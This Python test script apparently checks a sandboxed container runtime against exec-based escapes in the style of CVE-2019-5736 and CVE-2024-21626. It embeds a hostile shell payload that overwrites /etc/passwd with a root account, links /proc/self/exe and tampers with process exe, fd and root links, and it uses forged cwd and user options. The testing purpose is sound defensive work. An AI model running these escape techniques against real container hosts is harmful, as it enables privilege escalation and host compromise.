#!/usr/bin/python3
# tries: exec into a container whose first process replaces programs and links under it, swaps /etc/passwd, fills its
#   limits, stops itself, or has died; cwd by descriptor, users by a forged passwd, detached ones by the dozen
# must fail because: an exec joins through the sentry, as one more guest process; nothing of the runtime enters the
#   container
# an escape would: run the runtime's own code where the guest can reach it, or start the exec outside
# source: ATTACKS.md I16 F1; CVE-2019-5736, CVE-2024-21626
import os
import time

from tool_oci import HANG, bundle, canary, config, main, oci, runtime, say, scratch, snapshot

name = f"escape-exec-{os.getpid()}"
hostile = r"""
rm -f /bin/target; ln -s /proc/self/exe /bin/target
echo "evil:x:0:0::/:/bin/sh" >/etc/passwd
while :; do
    rm -rf /etc/dir; ln -s /proc/1/root /etc/dir; rm -f /etc/dir; mkdir /etc/dir
    for p in /proc/[0-9]*; do
        for f in $p/exe $p/fd/* $p/root $p/cwd; do
            (echo evil >>$f) 2>/dev/null; t=$(readlink $f)
            case "$t" in *runsc*|*sentry*|*/state/*) echo "SEEN $f $t" >>/tmp/seen;; esac
        done
    done
done"""


def attack():
    out, bad = canary(), []
    before, programs = snapshot(out), [os.stat(p) for p in runtime()[:1] if os.path.exists(p)]
    d = bundle("b", config(["sh", "-c", hostile]))
    if oci("create", "--bundle", d, name)[0] or oci("start", name)[0]:
        return "cannot the container did not start"
    statuses = {}
    for i in range(40):
        command = [["true"], ["/bin/target", "x"], ["/proc/self/exe"], ["sh", "-c", "cat ../canary/victim; readlink /proc/self/exe"],
                   ["/proc/self/fd/3"], ["cat", "/etc/dir" + out + "/victim"]][i % 6]
        more = [[], ["--cwd", f"/proc/self/fd/{3 + i % 9}"], ["--cwd", "/etc/dir" + scratch], ["--user", "0:0"], ["--detach"]][i % 5]
        rc, text = oci("exec", *more, name, *command)
        statuses[rc] = statuses.get(rc, 0) + 1
        if "outside of every image" in text or rc == -1:
            bad.append(f"{command} {more}")
            say(f"step {command} {more}: {rc} {text[:100]}")
    rc, text = oci("exec", name, "cat", "/tmp/seen")
    if "SEEN" in text:
        bad.append("the runtime was seen inside: " + text[:80])
    oci("kill", name, "KILL")
    end = time.time() + HANG
    while '"stopped"' not in oci("state", name)[1] and time.time() < end:
        time.sleep(0.05)
    rc, text = oci("exec", name, "echo", "alive")
    say(f"step execs by status: {statuses}; after the first process died: {rc} {text[:80]}")
    if rc == 0:
        bad.append("an exec after the end")
    oci("delete", "--force", name)
    after = [os.stat(p) for p in runtime()[:1] if os.path.exists(p)]
    if snapshot(out) != before or [(s.st_size, s.st_mtime_ns) for s in after] != [(s.st_size, s.st_mtime_ns) for s in programs]:
        bad.append("files of the host have changed")
    return "ESCAPED " + "; ".join(bad) if bad else "contained execs are guests as the others"


def twin():
    d = bundle("twin", config(["sleep", "100"]))
    oci("create", "--bundle", d, name)
    oci("start", name)
    rc, out = oci("exec", "--cwd", "/etc", name, "sh", "-c", "pwd; id -u")
    oci("delete", "--force", name)
    return "works an exec" if (rc, out) == (0, "/etc\n0") else f"broken {rc} {out}"


main(attack, twin)
